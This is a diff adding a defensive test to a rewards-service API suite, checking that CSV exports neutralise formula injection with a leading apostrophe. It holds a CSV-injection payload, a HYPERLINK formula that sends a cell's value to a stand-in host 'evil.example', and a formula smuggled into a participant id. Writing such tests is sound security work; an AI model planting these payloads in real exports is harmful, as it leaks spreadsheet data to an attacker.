@@ -20,6 +20,7 @@ import os
 import sys
 import time
 import unittest
+import urllib.parse
 
 sys.path.insert(0, os.path.dirname(__file__))
 from apiutil import Env, RequestHelpers, SeededAPITest, audit_all, conversion, ndjson, participant, receiver  # noqa: E402
@@ -385,6 +386,41 @@ class BatchHold(FinanceCase):
         # the reversal records the refund's own reason, though it was applied later
         self.assertEqual(hist[-1], ("fulfilled", "reversed", "chargeback"), hist)
         self.assertEqual(hist[-2][:2], ("approved", "fulfilled"), hist)
+
+
+class FormulaCells(FinanceCase):
+    """Text in the CSV exports comes from outside: participant ids and names from the
+    events, a fulfiller's reference. A cell a spreadsheet would run as a formula opens as
+    text (a leading apostrophe); the JSON answers keep the values as they are."""
+
+    EVIL_REF = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+    @classmethod
+    def setUpClass(cls):
+        cls.start(cash_program("cash25", 2500))
+
+    def test_formula_like_cells_are_written_as_text(self):
+        who = "=SUM(1+2)"
+        post_events(self, self.srv, self.admin,
+                    [participant(who), referral("fref_1", "cash25", who, "fg1"), conversion("ford_1", "fg1")])
+        self.run_jobs()
+        rid = self.ok("GET", "/v1/rewards?participant=" + urllib.parse.quote(who), key=self.admin)["data"][0]["id"]
+        fulfiller = self.env.key("fulfiller", "--fulfiller", "acme")
+        bid = self.ok("POST", "/v1/batches", {"currency": "USD"}, status=201, key=fulfiller)["id"]
+        self.ok("POST", f"/v1/batches/{bid}/fulfill", {"reference": self.EVIL_REF}, key=fulfiller)
+        self.assertEqual(self.reward(rid)["external_reference"], self.EVIL_REF)
+
+        st, text, _ = self.req("GET", f"/v1/batches/{bid}/report.csv")
+        self.assertEqual(st, 200, text)
+        rows = list(csv.reader(io.StringIO(text)))
+        self.assertEqual(rows[1], [rid, "'" + who, "cash", "2500", "USD", "'" + self.EVIL_REF], text)
+        st, text, _ = self.req("GET", "/v1/reports/participants?format=csv")
+        self.assertEqual(st, 200, text)
+        ids = [r["participant"] for r in csv.DictReader(io.StringIO(text))]
+        self.assertIn("'" + who, ids, text)
+        self.assertNotIn(who, ids, text)
+        # the rest of the report (counts, currencies, amounts) is written as it was
+        self.assertTrue(all(not c.startswith("'") for r in csv.reader(io.StringIO(text)) for c in r[1:]), text)
 
 
 # --- 5. reports against hand-computed numbers -------------------------------------------
